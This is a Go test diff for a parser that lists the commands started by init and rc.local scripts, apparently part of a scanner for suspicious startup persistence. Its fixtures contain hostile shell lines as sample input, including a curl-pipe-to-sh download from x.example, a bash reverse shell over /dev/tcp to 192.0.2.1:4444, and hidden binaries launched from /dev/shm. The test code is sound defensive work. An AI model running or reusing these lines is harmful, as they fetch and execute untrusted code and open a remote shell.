@@ -175,3 +175,51 @@ func FuzzScripts(f *testing.F) {
 		parseUpstart(text)
 	})
 }
+
+func TestCommandsOfScripts(t *testing.T) {
+	for _, c := range []struct{ name, script, want string }{
+		{"rc.local", "#!/bin/sh -e\n# nothing\n/usr/bin/logger hi\nnohup /dev/shm/.x -d >/dev/null 2>&1 &\nX=/tmp\n$X/run.sh &\nexit 0\n",
+			"/dev/shm/.x -d;/tmp/run.sh;/usr/bin/logger hi"},
+		{"fetched", "#!/bin/bash\ncurl -s http://x.example/a | sh\nwget -q http://x.example/b\n",
+			"/bin/sh -c curl -s http://x.example/a | sh;/bin/sh -c wget -q http://x.example/b"},
+		{"shell over the network", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "/bin/sh -c bash -i &> /dev/tcp/192.0.2.1/4444"},
+		{"function and case", "#!/bin/sh\nstart() {\n start-stop-daemon --start --background --exec /dev/shm/kdev -- -q\n}\ncase \"$1\" in\nstart) start; /tmp/.y & ;;\nstop) start-stop-daemon --stop --exec /opt/z ;;\nesac\n",
+			"/dev/shm/kdev -q;/tmp/.y"},
+		{"as another user", "#!/bin/sh\nsu - app -c '/home/app/run >/dev/null'\n", "/bin/sh -c /home/app/run >/dev/null"},
+		{"red hat", "#!/bin/bash\n. /etc/init.d/functions\ndaemon --user=app +5 /opt/app/bin/appd -f /etc/app.conf\n", "/opt/app/bin/appd -f /etc/app.conf"},
+		{"unknown variable", "#!/bin/sh\n$PROG -d\n\"$DAEMON_DIR/x\"\n/opt/$NAME/x\n", "/opt/$NAME/x"},
+		{"no shell", "#!/usr/bin/python3\nimport os\nos.system('/tmp/x')\n", ""},
+		{"ordinary", "#!/bin/sh\n[ -x /usr/sbin/x ] || exit 0\nrm -f /tmp/x\nmkdir -p /var/run/x\necho hi | grep h\nmodprobe loop\n", ""},
+		{"broken", "#!/bin/sh\n/tmp/a\nif then fi (((\n", "/tmp/a"},
+	} {
+		var got []string
+		runs, _ := runsOf(c.script)
+		for _, r := range runs {
+			got = append(got, strings.TrimSpace(r.Path+" "+r.Args))
+		}
+		if d := cmp.Diff(c.want, strings.Join(got, ";")); d != "" {
+			t.Errorf("%s (-want +got):\n%s", c.name, d)
+		}
+	}
+	long := "#!/bin/sh\n" + strings.Repeat("/usr/bin/true $x\n", 9000) + "/tmp/.last\n"
+	if got, err := runsOf(long); err != nil || len(got) == 0 || got[0].Path != "/tmp/.last" || len(got) > maxRuns {
+		t.Errorf("behind thousands of others: %v", got)
+	}
+}
+
+func FuzzRunsOf(f *testing.F) {
+	f.Add("#!/bin/sh\nnohup /dev/shm/.x | sh\n")
+	f.Add("start-stop-daemon -x=/a -- -b\nsu -c x\ntimeout\nenv a=b")
+	f.Fuzz(func(t *testing.T, text string) {
+		began := time.Now()
+		runs, _ := runsOf(text)
+		for _, r := range runs {
+			if !strings.HasPrefix(r.Path, "/") || len(r.Path) > maxText+8 || len(r.Args) > maxText+8 || !utf8.ValidString(r.Args) {
+				t.Fatalf("%+v", r)
+			}
+		}
+		if took := time.Since(began); took > 5*time.Second {
+			t.Fatalf("took %v", took)
+		}
+	})
+}
